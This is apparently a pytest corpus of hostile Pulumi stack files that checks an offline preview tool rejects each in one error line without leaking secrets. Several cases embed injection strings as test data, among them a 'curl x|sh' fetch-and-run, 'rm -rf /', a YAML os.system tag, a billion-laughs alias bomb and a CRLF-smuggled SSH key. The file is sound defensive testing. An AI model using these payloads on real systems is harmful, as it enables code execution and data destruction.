"""A corpus of hostile stack files, each a mutation of a shipped one: every file is refused by the offline preview
(`python -m preview`, what `make preview` runs) in one line that names the key, within a second, without a
traceback, and without printing a secret it holds. Most run in-process through preview/__main__.main (fast); a
handful run as `make preview` does, in a subprocess with the policy pack, to prove the exit status and that
stderr is exactly one line."""

# The corpus is a table, one case a line: its lines are as long as a case and its expected message.
# ruff: noqa: E501

import contextlib
import io
import re
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from preview.__main__ import main
from tests.conftest import PROJECT_DIR

NS = "hetzner-coolify"
PROGRAM_FILES = ("Pulumi.yaml", "__main__.py", "components", "stack_config")
SHIPPED = {stack: (PROJECT_DIR / f"Pulumi.{stack}.yaml").read_text() for stack in ("staging", "production")}
RECIPIENT = "age1e0n8hx68j4g0ts6z78gx0ee0f30a3309f7gydjy4lkzdmy6wxepqurfhtx"
ALICE = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA2FAAB9YEE4rEw/DUJHbOGWax1rVeqX1KJVEd60ESW7 alice@example.com"
OPENSSH_PRIVATE = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
    "QyNTUxOQAAACBhbGljZWFsaWNlYWxpY2VhbGljZWFsaWNlYWxpY2VhbGljZQAAAJg=\n-----END OPENSSH PRIVATE KEY-----\n"
)
RSA_PRIVATE = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n"
AGE_IDENTITY = "AGE-SECRET-KEY-1ZK33ZAVMCYH5FQZY8F8G9LV2QR2U3TJFERFD3GK7567QTGGKFU4SZZGCLW"
TOKEN = "h7Qk2LmN9pR4sT6vW8xY0zA1bC3dE5fG7hJ9kL2mN4pQ6rS8tU0vW2xY4zA6bC8d"
# What no message may ever contain.
SECRETS = (OPENSSH_PRIVATE.splitlines()[1], RSA_PRIVATE.splitlines()[1], AGE_IDENTITY, TOKEN, "hunter2")
CHANGED = object()  # sentinel: remove a key

Mutation = Callable[[str], str | bytes]


@dataclass(frozen=True)
class Case:
    name: str
    stack: str
    mutate: Mutation
    expected: str
    """The start of the one line after `error: `: it names the file or the key."""
    status: int = 1


def sub(old: str, new: str) -> Mutation:
    def mutate(text: str) -> str:
        assert old in text, old
        return text.replace(old, new, 1)

    return mutate


def text_of(content: str | bytes) -> str:
    assert isinstance(content, str)
    return content


def raw(content: str | bytes) -> Mutation:
    return lambda _: content


def edit(change: Callable[[dict[str, Any]], None]) -> Mutation:
    """Change the shipped file's config (a dict of full keys) and write it back as YAML."""

    def mutate(text: str) -> str:
        document = yaml.safe_load(text)
        change(document["config"])
        return yaml.safe_dump(document, sort_keys=False, allow_unicode=False, width=10**6)

    return mutate


def put(key: str, value: Any) -> Mutation:
    """Set `<ns>:<key>` (a dotted path into the shipped value) to `value`; CHANGED removes it."""
    top, *rest = key.split(".")

    def change(config: dict[str, Any]) -> None:
        if not rest:
            config[f"{NS}:{top}"] = value
            return
        node = config.setdefault(f"{NS}:{top}", {})
        for part in rest[:-1]:
            node = node.setdefault(part, {}) if isinstance(node, dict) else node[int(part)]
        if isinstance(node, list):
            node[int(rest[-1])] = value
        else:
            node[rest[-1]] = value

    return edit(change)


def put_full(key: str, value: Any) -> Mutation:
    return edit(lambda config: config.__setitem__(key, value))


def nested(depth: int) -> dict[str, Any]:
    value: dict[str, Any] = {"ttl": 300}
    for index in range(depth):
        value = {f"l{index}": value}
    return value


def alias_bomb(text: str) -> str:
    lines = ["lol0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"lol{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 10)}]" for i in range(1, 10)]
    return "\n".join(lines) + "\n" + text


def keys_line(comment: str) -> Mutation:
    return put("adminSshKeys", [{"name": "alice", "publicKey": f"{ALICE.rsplit(' ', 1)[0]} {comment}"}])


SCHEDULE_FORMS = (
    "allowed: hourly, daily, weekly, monthly, quarterly, semiannually, yearly, or '[weekdays] [*-MM-DD] HH:MM[:SS] "
    "[time zone]'"
)
CONTROL = (
    "; allowed: printable text on one line (a line break or control character could add a line to a file on the server)"
)


def cli_type(stack: str, key: str, type_name: str) -> str:
    """The CLI's refusal of a value that is not of the type Pulumi.yaml declares (preview/config_declarations.py)."""
    return f"validating stack config: Stack '{stack}' with configuration key '{key}' must be of type '{type_name}'"


TYPO = RECIPIENT[:30] + ("s" if RECIPIENT[30] != "s" else "q") + RECIPIENT[31:]

CASES = [
    # Wrong types for every section.
    # The sections' types are declared in Pulumi.yaml (stack_config/project_schema.py): the CLI refuses a section of
    # the wrong type before the program runs, and so does the preview (exit status 2); the program's own lines for
    # them are in tests/stack_config/test_messages.py.
    Case("domain-list", "staging", put("domain", [1, 2]), f"{NS}:domain: [1, 2] is a list, not text; allowed: the Cloudflare zone's name, e.g. example.com"),
    Case("dns-text", "staging", put("dns", "yes"), cli_type("staging", "dns", "object"), 2),
    Case("server-list", "production", put("server", ["cx43"]), cli_type("production", "server", "object"), 2),
    Case("keys-text", "staging", put("adminSshKeys", "alice"), cli_type("staging", "adminSshKeys", "array<object>"), 2),
    Case("cidrs-text", "staging", put("adminCidrs", "203.0.113.0/24"), cli_type("staging", "adminCidrs", "array<string>"), 2),
    Case("coolify-number", "staging", put("coolify", 5), cli_type("staging", "coolify", "object"), 2),
    Case("postgres-bool", "staging", put("postgres", True), cli_type("staging", "postgres", "object"), 2),
    Case("redis-list", "staging", put("redis", [1]), cli_type("staging", "redis", "object"), 2),
    Case("docker-text", "staging", put("docker", "x"), cli_type("staging", "docker", "object"), 2),
    Case("backups-list", "staging", put("backups", []), cli_type("staging", "backups", "object"), 2),
    Case("workers-text", "staging", put("workers", "many"), cli_type("staging", "workers", "object"), 2),
    Case("protection-number", "production", put("protection", 1), cli_type("production", "protection", "object"), 2),
    Case("token-mapping", "staging", put("coolifyApiToken", {"a": "hunter2"}), f"{NS}:coolifyApiToken: a secret value is not text; allowed: text, set with `pulumi config set --secret`"),
    Case("retention-text", "staging", put("backups.retention", "weekly"), f"{NS}:backups.retention: 'weekly' is text, not a mapping; allowed: a mapping with the keys daily, weekly, monthly"),
    Case("key-entry-list", "staging", put("adminSshKeys", [["alice"]]), cli_type("staging", "adminSshKeys", "array<object>"), 2),
    Case("key-entry-text", "staging", put("adminSshKeys", ["alice"]), cli_type("staging", "adminSshKeys", "array<object>"), 2),
    Case("key-entry-number", "staging", put("adminSshKeys", [{"name": 5, "publicKey": ALICE}]), f"{NS}:adminSshKeys[0].name: 5 is a number, not text; allowed: 1-32 of a-z, 0-9 and '-'"),
    # Unknown keys.
    Case("unknown-top-key", "staging", put("severType", "cx33"), f"{NS}:severType: is not a known key (did you mean server?); allowed: environment, domain"),
    Case("unknown-server-key", "production", put("server.size", "large"), f"{NS}:server.size: is not a known key; allowed: type, location"),
    Case("unknown-storage-key", "staging", put("backups.storage.bucketName", "b"), f"{NS}:backups.storage.bucketName: is not a known key; allowed: kind, accountId"),
    Case("unknown-record", "staging", put("dns", {"overrides": {"mail": {"ttl": 300}}}), f"{NS}:dns.overrides: ['mail'] are not records of this stack"),
    # Empty, binary, the wrong shape at the top, nulls.
    Case("empty-file", "staging", raw(""), "Pulumi.staging.yaml: is empty; expected a mapping", 2),
    Case("binary-junk", "staging", raw(bytes(range(255, -1, -1))), "Pulumi.staging.yaml: is not UTF-8 text (byte 0xff at offset 0)", 2),
    Case("control-bytes", "production", raw(b"config:\n  \x01\x02: x\n"), "Pulumi.production.yaml: line 2: '\\x01' is not allowed in YAML text", 2),
    Case("top-level-list", "staging", raw("- config\n- x\n"), "Pulumi.staging.yaml: expected a mapping at the top level, found a list", 2),
    Case("top-level-text", "staging", raw("just some text\n"), "Pulumi.staging.yaml: expected a mapping at the top level, found text", 2),
    Case("config-list", "staging", raw("config: [1, 2]\n"), "Pulumi.staging.yaml: 'config' must be a mapping of keys to values", 2),
    Case("config-null", "staging", raw("config:\n"), "Pulumi.staging.yaml: has no `config:`; expected the stack's keys under it", 2),
    Case("null-value", "staging", put("domain", None), f"Pulumi.staging.yaml: {NS}:domain: is empty (null); give it a value or remove it", 2),
    Case("null-nested", "production", put("server.type", None), f"{NS}:server.type: is empty (null); allowed: a Hetzner server type: cx23, cx33"),
    Case("null-key", "staging", sub("config:\n", "config:\n  null: x\n"), "Pulumi.staging.yaml: line 4: a key is null; keys are text (quote it)", 2),
    Case("number-key", "staging", sub("config:\n", "config:\n  42: x\n"), "Pulumi.staging.yaml: line 4: a key is a number; keys are text (quote it)", 2),
    Case("list-key", "staging", sub("config:\n", "config:\n  ? [a, b]\n  : x\n"), "Pulumi.staging.yaml: line 4: a key is a list; keys are text (quote it)", 2),
    Case("three-part-key", "staging", sub("config:\n", "config:\n  a:b:c: x\n"), "Pulumi.staging.yaml: config: 'a:b:c' is not a config key", 2),
    # Numbers.
    Case("huge-count", "staging", put("workers.count", 99999999999999999999), f"{NS}:workers.count: is a number of 20 digits; allowed: numbers up to 2^53"),
    Case("huge-yaml-number", "staging", sub("  hetzner-coolify:domain: example.com\n", "  hetzner-coolify:domain: example.com\n  hetzner-coolify:workers:\n    count: " + "9" * 1000 + "\n"), "Pulumi.staging.yaml: line 6: a number of 1000 characters; allowed: at most 20 digits", 2),
    Case("negative-count", "staging", put("workers.count", -1), f"{NS}:workers.count: -1 is out of range; allowed: 0-100 (worker servers for Coolify's apps"),
    Case("negative-memory", "production", put("postgres.memoryMb", -512), f"{NS}:postgres.memoryMb: -512 is out of range; allowed: 256-262144 (memory limit of the container, MiB)"),
    Case("huge-port", "staging", put("postgres.localPort", 70000), f"{NS}:postgres.localPort: 70000 is out of range; allowed: 1024-65535"),
    Case("infinite-ttl", "staging", sub("  hetzner-coolify:domain: example.com\n", "  hetzner-coolify:domain: example.com\n  hetzner-coolify:dns:\n    defaults:\n      ttl: .inf\n"), f"{NS}:dns.defaults.ttl: inf is not a whole number; allowed: 1 (automatic) or 60-86400"),
    Case("nan-retention", "staging", put("backups.retention.daily", float("nan")), f"{NS}:backups.retention.daily: nan is not a whole number; allowed: 1-366"),
    Case("float-count", "staging", put("workers.count", 1.5), f"{NS}:workers.count: 1.5 is not a whole number; allowed: 0-100"),
    # Look-alikes and invisible characters.
    Case("cyrillic-e-domain", "staging", put("domain", "\u0435xample.com"), f"{NS}:domain: '\\u0435xample.com' is not a domain name"),
    Case("cyrillic-a-domain", "production", put("domain", "ex\u0430mple.com"), f"{NS}:domain: 'ex\\u0430mple.com' is not a domain name"),
    Case("fullwidth-domain", "staging", put("domain", "\uff45xample.com"), f"{NS}:domain: '\\uff45xample.com' is not a domain name"),
    Case("kelvin-domain", "staging", put("domain", "\u212aitchen.com"), f"{NS}:domain: '\\u212aitchen.com' is not a domain name"),
    Case("cyrillic-subdomain", "staging", put("dns", {"subdomains": ["\u0430pi"]}), f"{NS}:dns.subdomains[0]: '\\u0430pi' is not a DNS label"),
    Case("cyrillic-email", "staging", put("coolify.adminEmail", "ops@ex\u0430mple.com"), f"{NS}:coolify.adminEmail: 'ops@ex\\u0430mple.com' is not an email address"),
    Case("bidi-override", "staging", put("server", {"adminUser": "ops\u202e"}), f"{NS}:server.adminUser: contains U+202E (RIGHT-TO-LEFT OVERRIDE) at character 4{CONTROL}"),
    Case("zero-width-space", "staging", put("dns", {"dashboard": "cool\u200bify"}), f"{NS}:dns.dashboard: contains U+200B (ZERO WIDTH SPACE) at character 5{CONTROL}"),
    Case("fullwidth-version", "staging", put("coolify.version", "\uff14.7.7"), f"{NS}:coolify.version: '\\uff14.7.7' is not a pinned release"),
    # NUL bytes, CRLF, byte order marks, tabs.
    Case("nul-byte-in-file", "staging", sub("example.com", "example\x00.com"), "Pulumi.staging.yaml: line 4: '\\x00' is not allowed in YAML text", 2),
    Case("nul-escape-in-value", "staging", put("domain", "example.com\x00"), f"{NS}:domain: contains U+0000 (NUL) at character 12{CONTROL}"),
    Case("nul-in-key-comment", "staging", keys_line("alice\x00@example.com"), f"{NS}:adminSshKeys[0].publicKey: contains U+0000 (NUL) at character 87{CONTROL}"),
    Case("crlf-header-injection", "staging", put("coolify.adminEmail", "ops@example.com\r\nBcc: x@example.org"), f"{NS}:coolify.adminEmail: contains U+000D (CARRIAGE RETURN) at character 16{CONTROL}"),
    Case("crlf-authorized-keys", "production", keys_line("alice\r\nssh-ed25519 AAAA attacker"), f"{NS}:adminSshKeys[0].publicKey: contains U+000D (CARRIAGE RETURN) at character 87{CONTROL}"),
    Case("crlf-file-bad-type", "staging", lambda text: text_of(sub("adminEmail: ops@example.com", "adminEmail: ops@example.com\n  hetzner-coolify:server:\n    type: cx99")(text)).replace("\n", "\r\n"), f"{NS}:server.type: 'cx99' is not a Hetzner server type"),
    Case("newline-in-schedule", "staging", put("backups.schedule", "daily\nExecStartPre=/bin/sh -c 'curl x|sh'"), f"{NS}:backups.schedule: contains U+000A (LINE FEED) at character 6{CONTROL}"),
    Case("bom-in-value", "staging", put("domain", "\ufeffexample.com"), f"{NS}:domain: contains U+FEFF (ZERO WIDTH NO-BREAK SPACE) at character 1{CONTROL}"),
    Case("bom-file-bad-location", "production", lambda text: "\ufeff" + text_of(sub("type: cx43", "type: cx43\n    location: fra1")(text)), f"{NS}:server.location: 'fra1' is not a Hetzner location"),
    Case("tab-indent", "staging", sub("  hetzner-coolify:domain", "\thetzner-coolify:domain"), "Pulumi.staging.yaml: line 4, column 1: found character that cannot start any token", 2),
    Case("tab-in-username", "staging", put("coolify.adminUsername", "ad\tmin"), f"{NS}:coolify.adminUsername: contains U+0009 (TAB) at character 3{CONTROL}"),
    Case("tab-in-key", "staging", put("adminSshKeys", [{"name": "alice", "publicKey": ALICE.replace(" ", "\t", 1)}]), f"{NS}:adminSshKeys[0].publicKey: contains U+0009 (TAB) at character 12{CONTROL}"),
    Case("control-char-in-map-key", "staging", put("server", {"bad\x07key": 1}), f"{NS}:server['bad\\x07key']: is not a key of this configuration"),
    # Nesting, sizes.
    Case("deep-overrides", "staging", put("dns", {"overrides": {"api": nested(6)}}), f"{NS}:dns.overrides.api.l5.l4.l3.l2: is nested 7 levels deep; allowed: at most 6"),
    Case("deep-flow", "staging", sub("example.com", "[" * 40), "Pulumi.staging.yaml: line 4: is nested more than 16 levels deep", 2),
    Case("very-deep-flow", "production", sub("example.com", "[" * 100_000), "Pulumi.production.yaml: line 4: is nested more than 16 levels deep", 2),
    Case("long-domain", "staging", put("domain", "a" * 100_000), f"{NS}:domain: is 100000 characters long; allowed: at most 8192"),
    Case("long-key-line", "staging", keys_line("c" * 5000), f"{NS}:adminSshKeys[0].publicKey: '{ALICE[:80]}…' (5081 characters) is 5081 characters long; allowed: at most 4096"),
    Case("long-key-comment", "staging", keys_line("c" * 2000), f"{NS}:adminSshKeys[0].publicKey: '{ALICE[:80]}…' (2081 characters) has a comment of 2000 characters; allowed: at most 1024"),
    Case("many-keys", "staging", put("adminSshKeys", [{"name": f"k{i}", "publicKey": ALICE} for i in range(40)]), f"{NS}:adminSshKeys: has 40 items; allowed: 1-32 items"),
    Case("too-many-items", "staging", put("dns", {"subdomains": [f"a{i}" for i in range(500)]}), f"{NS}:dns.subdomains: is a list of 500 items; allowed: at most 100"),
    Case("long-email", "staging", put("coolify.adminEmail", "o" * 300 + "@example.org"), f"{NS}:coolify.adminEmail: '{'o' * 80}…' (312 characters) is not an email address"),
    Case("long-hostname", "staging", put("dns", {"namespace": ".".join(["n" * 60] * 4)}), f"{NS}:dns: the name 'coolify.{'n' * 32}…' is 263 characters long; DNS allows at most 253"),
    Case("oversized-file", "staging", lambda text: text + "# " + "x" * 300_000 + "\n", "Pulumi.staging.yaml: is 300,", 2),
    # Aliases and duplicate keys.
    Case("alias", "staging", sub("  hetzner-coolify:adminCidrs:\n", "  hetzner-coolify:adminCidrs: &cidrs\n"), "Pulumi.staging.yaml: line 8: anchors and aliases (&name, *name) are not allowed in a stack file", 2),
    Case("billion-laughs", "production", alias_bomb, "Pulumi.production.yaml: line 1: anchors and aliases (&name, *name) are not allowed in a stack file", 2),
    Case("merge-key", "staging", sub("  hetzner-coolify:coolify:\n", "  hetzner-coolify:coolify:\n    <<: {adminEmail: a@b.c}\n"), "Pulumi.staging.yaml: line 12: merge keys (<<) are not allowed in a stack file", 2),
    Case("duplicate-top-key", "staging", lambda text: text + "  hetzner-coolify:domain: evil.example\n", "Pulumi.staging.yaml: line 17: the key 'hetzner-coolify:domain' appears twice in one mapping (lines 4 and 17); keep one", 2),
    Case("duplicate-nested-key", "production", sub("    ageRecipient:", f"    ageRecipient: {RECIPIENT}\n    ageRecipient:"), "Pulumi.production.yaml: line 20: the key 'ageRecipient' appears twice in one mapping (lines 19 and 20); keep one", 2),
    Case("two-spellings", "staging", lambda text: text + "  domain: evil.example\n", f"Pulumi.staging.yaml: config: {NS}:domain is set twice (as 'domain' too)", 2),
    Case("binary-tag", "staging", sub("example.com", "!!binary aGk="), "Pulumi.staging.yaml: line 4: the tag 'tag:yaml.org,2002:binary' is not allowed", 2),
    Case("python-tag", "staging", sub("example.com", "!!python/object/apply:os.system [id]"), "Pulumi.staging.yaml: line 4: the tag 'tag:yaml.org,2002:python/object/apply:os.system' is not allowed", 2),
    Case("two-documents", "staging", lambda text: text + "---\nconfig: {}\n", "Pulumi.staging.yaml: line 17: a second YAML document (---); a stack file holds one", 2),
    Case("unclosed-flow", "staging", sub("example.com", "{a: [1"), "Pulumi.staging.yaml: line 5, column 31: did not find expected ',' or ']'", 2),
    # Secrets in clear and pasted private keys (never printed).
    Case("hcloud-token-clear", "staging", put_full("hcloud:token", TOKEN), "hcloud:token: is a provider credential in clear text; set it with `pulumi config set --secret hcloud:token`"),
    Case("hcloud-token-short", "production", put_full("hcloud:token", "abc"), "hcloud:token: is a provider credential in clear text; set it with `pulumi config set --secret hcloud:token` (the stack file then holds it encrypted, under secure:)"),
    Case("cloudflare-token-clear", "production", put_full("cloudflare:apiToken", "hunter2"), "cloudflare:apiToken: is a provider credential in clear text"),
    Case("cloudflare-key-clear", "staging", put_full("cloudflare:apiKey", "hunter2"), "cloudflare:apiKey: is a provider credential in clear text"),
    Case("registry-password-clear", "staging", put_full("docker:registryAuth", [{"address": "docker.io", "password": "hunter2"}]), "docker:registryAuth: is a provider credential in clear text"),
    Case("docker-key-clear", "staging", put_full("docker:keyMaterial", RSA_PRIVATE), "docker:keyMaterial: holds a PEM private key in clear text; set it with `pulumi config set --secret docker:keyMaterial`"),
    Case("api-token-clear", "staging", put("coolifyApiToken", "1|hunter2"), f"{NS}:coolifyApiToken: must be set with `pulumi config set --secret`, not in clear in the stack file"),
    Case("s3-secret-clear", "production", put("backupS3SecretAccessKey", "hunter2"), f"{NS}:backupS3SecretAccessKey: must be set with `pulumi config set --secret`"),
    Case("secure-not-text", "staging", put("coolifyApiToken", {"secure": 5}), f"Pulumi.staging.yaml: {NS}:coolifyApiToken: a secure value is the ciphertext", 2),
    Case("private-key-as-public", "staging", put("adminSshKeys", [{"name": "alice", "publicKey": OPENSSH_PRIVATE}]), f"{NS}:adminSshKeys[0].publicKey: holds an OpenSSH private key: paste the public half (the .pub file) here and keep the private key off this file"),
    Case("rsa-key-as-public", "production", put("adminSshKeys", [{"name": "alice", "publicKey": RSA_PRIVATE}]), f"{NS}:adminSshKeys[0].publicKey: holds a PEM private key: paste the public half"),
    Case("age-identity-as-recipient", "staging", put("backups.ageRecipient", AGE_IDENTITY), f"{NS}:backups.ageRecipient: holds an age identity (a private key): put the recipient, age1…, here and keep the identity off this file"),
    Case("age-identity-elsewhere", "production", put("coolify.adminUsername", AGE_IDENTITY.lower()), f"{NS}:coolify.adminUsername: holds an age identity (a private key): keep it off this file"),
    Case("openssh-body-no-armour", "staging", put("dns", {"namespace": OPENSSH_PRIVATE.splitlines()[1]}), f"{NS}:dns.namespace: holds an OpenSSH private key: keep it off this file"),
    Case("token-in-domain", "staging", put("domain", TOKEN), f"{NS}:domain: a value that looks like a secret (64 characters, not shown) is not a domain name"),
    # age recipients with bad checksums.
    Case("recipient-typo", "staging", put("backups.ageRecipient", TYPO), f"{NS}:backups.ageRecipient: '{TYPO}' is not an age recipient (age1... or ssh-ed25519): it has a bad checksum"),
    Case("recipient-truncated", "production", put("backups.ageRecipient", RECIPIENT[:-3]), f"{NS}:backups.ageRecipient: '{RECIPIENT[:-3]}' is not an age recipient (age1... or ssh-ed25519): it has 55 characters after age1"),
    Case("recipient-upper", "staging", put("backups.ageRecipient", "age1" + RECIPIENT[4:].upper()), f"{NS}:backups.ageRecipient: a value that looks like a secret (62 characters, not shown) is not an age recipient (age1... or ssh-ed25519): it has upper-case letters"),
    Case("recipient-bad-char", "staging", put("backups.ageRecipient", RECIPIENT[:-1] + "b"), f"{NS}:backups.ageRecipient: '{RECIPIENT[:-1]}b' is not an age recipient (age1... or ssh-ed25519): it has characters outside"),
    # Schedules.
    Case("schedule-whenever", "staging", put("backups.schedule", "whenever"), f"{NS}:backups.schedule: 'whenever' is not a schedule this stack supports (the time is not HH:MM or HH:MM:SS); {SCHEDULE_FORMS}"),
    Case("schedule-never", "production", put("backups.schedule", "*-02-30 02:00"), f"{NS}:backups.schedule: '*-02-30 02:00' is not a schedule this stack supports (no month has the days this date names, so it never happens); {SCHEDULE_FORMS}"),
    Case("schedule-minutely", "staging", put("backups.schedule", "minutely"), f"{NS}:backups.schedule: 'minutely' is not a schedule this stack supports ('minutely' backs up every minute; at most hourly)"),
    Case("schedule-hour-25", "staging", put("backups.schedule", "*-*-* 25:00"), f"{NS}:backups.schedule: '*-*-* 25:00' is not a schedule this stack supports (hour 25 is out of range 0-23)"),
    Case("schedule-injection", "staging", put("backups.schedule", "daily; rm -rf /"), f"{NS}:backups.schedule: 'daily; rm -rf /' is not a schedule this stack supports"),
    Case("schedule-bad-zone", "production", put("backups.schedule", "02:00 Mars/Olympus"), f"{NS}:backups.schedule: '02:00 Mars/Olympus' is not a schedule this stack supports (the time zone is not in the time zone database)"),
    # The rest of the review's findings.
    Case("root-newline", "staging", put("server", {"adminUser": "root\n"}), f"{NS}:server.adminUser: contains U+000A (LINE FEED) at character 5{CONTROL}"),
    Case("ipv6-global-unicast", "production", put("adminCidrs", ["2000::/3"]), f"{NS}:adminCidrs: the IPv6 sources together cover 2^125 addresses; production lets at most a /16 of IPv4"),
    Case("ipv4-without-0-8", "production", put("adminCidrs", [f"{2**bits}.0.0.0/{8 - bits}" for bits in range(8)]), f"{NS}:adminCidrs: the IPv4 sources together cover 4,278,190,080 addresses"),
    Case("cidr-host-bits", "staging", put("adminCidrs", ["10.0.0.1/8"]), f"{NS}:adminCidrs[0]: '10.0.0.1/8' has host bits set; the network is 10.0.0.0/8"),
    Case("floating-image", "staging", put("postgres", {"image": "postgres:alpine"}), f"{NS}:postgres.image: 'postgres:alpine' is not pinned: its tag names no release"),
    Case("foreign-registry", "production", put("postgres.image", "ghcr.io/evil/postgres:17.6"), f"{NS}:postgres.image: 'ghcr.io/evil/postgres:17.6' is not an allowed image"),
    Case("latest-redis", "staging", put("redis", {"image": "redis:latest"}), f"{NS}:redis.image: 'redis:latest' is not pinned: its tag names no release"),
    # Keys that mean something else than they say.
    Case("misspelt-namespace", "staging", put_full("hetzner_coolify:domain", "acme-apps.eu"), "hetzner_coolify:domain: 'hetzner_coolify' is not a namespace of this project or its providers; did you mean hetzner-coolify:domain?"),
    Case("flat-dotted-key", "production", put_full(f"{NS}:server.type", "cx43"), f"{NS}:server.type: is a flat key with a dot; set it nested with `pulumi config set --path server.type cx43`, or in the stack file as `type: cx43` under `{NS}:server:`"),
    Case("production-without-backups", "production", put("backups.enabled", False), f"{NS}:backups.enabled: false is refused in production: its data must have off-site backups"),
    Case("environment-list", "staging", put("environment", ["production"]), f"{NS}:environment: ['production'] (set) is not an environment; allowed: staging, production"),
]  # fmt: skip

# Run as `make preview` does: a subprocess, the policy pack on.
SUBPROCESS = ("binary-junk", "billion-laughs", "private-key-as-public", "hcloud-token-clear", "schedule-never",
              "nul-escape-in-value", "very-deep-flow")  # fmt: skip


def project_with(tmp_path: Path, case: Case) -> Path:
    for name in PROGRAM_FILES:
        (tmp_path / name).symlink_to(PROJECT_DIR / name)
    content = case.mutate(SHIPPED[case.stack])
    target = tmp_path / f"Pulumi.{case.stack}.yaml"
    if isinstance(content, bytes):
        target.write_bytes(content)
    else:
        target.write_text(content, encoding="utf-8", newline="")
    return tmp_path


def check_one_line(stderr: str, case: Case) -> None:
    assert "Traceback" not in stderr
    lines = stderr.splitlines()
    assert len(lines) == 1, stderr[:2000]
    assert lines[0].startswith(f"error: {case.expected}"), lines[0][:2000]
    assert not any(secret in lines[0] for secret in SECRETS), lines[0]
    assert len(lines[0]) < 1000


def test_the_corpus_is_large_and_named_uniquely() -> None:
    names = [case.name for case in CASES]
    assert len(names) >= 80
    assert len(set(names)) == len(names)
    assert set(SUBPROCESS) <= set(names)


@pytest.fixture(scope="module")
def imported(tmp_path_factory: pytest.TempPathFactory) -> None:
    """The program's imports (the provider SDKs, about 2 s) happen once, before any case is timed."""
    project = project_with(tmp_path_factory.mktemp("warm-up"), CASES[0])
    with contextlib.redirect_stderr(io.StringIO()):
        main(["--stack", CASES[0].stack, "--project-dir", str(project), "--no-policy-pack"])


@pytest.mark.usefixtures("imported")
@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
def test_a_hostile_stack_is_refused_in_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str], case: Case) -> None:
    project = project_with(tmp_path, case)
    started = time.perf_counter()
    status = main(["--stack", case.stack, "--project-dir", str(project), "--no-policy-pack"])
    elapsed = time.perf_counter() - started
    out, err = capsys.readouterr()
    assert (status, out) == (case.status, "")
    check_one_line(err, case)
    assert elapsed < 1.0


@pytest.mark.parametrize("name", SUBPROCESS)
def test_make_preview_exits_with_one_line_on_stderr(tmp_path: Path, name: str) -> None:
    case = next(case for case in CASES if case.name == name)
    project = project_with(tmp_path, case)
    result = subprocess.run(
        [sys.executable, "-m", "preview", "--stack", case.stack, "--project-dir", str(project)],
        cwd=PROJECT_DIR,
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert (result.returncode, result.stdout) == (case.status, "")
    check_one_line(result.stderr, case)
    assert re.fullmatch(r"error: [^\n]+\n", result.stderr)


def test_a_refused_stack_starts_nothing_slow(tmp_path: Path) -> None:
    """The configuration is checked before the policy pack starts: a pack that could not even start is never
    reached, and the refusal comes at once."""
    case = next(case for case in CASES if case.name == "hcloud-token-clear")
    project = project_with(tmp_path, case)
    result = subprocess.run(
        [sys.executable, "-m", "preview", "--stack", case.stack, "--project-dir", str(project),
         "--policy-pack", str(tmp_path / "no-pack-here")],
        cwd=PROJECT_DIR, capture_output=True, text=True, check=False, timeout=60,
    )  # fmt: skip
    assert (result.returncode, result.stdout) == (case.status, "")
    check_one_line(result.stderr, case)
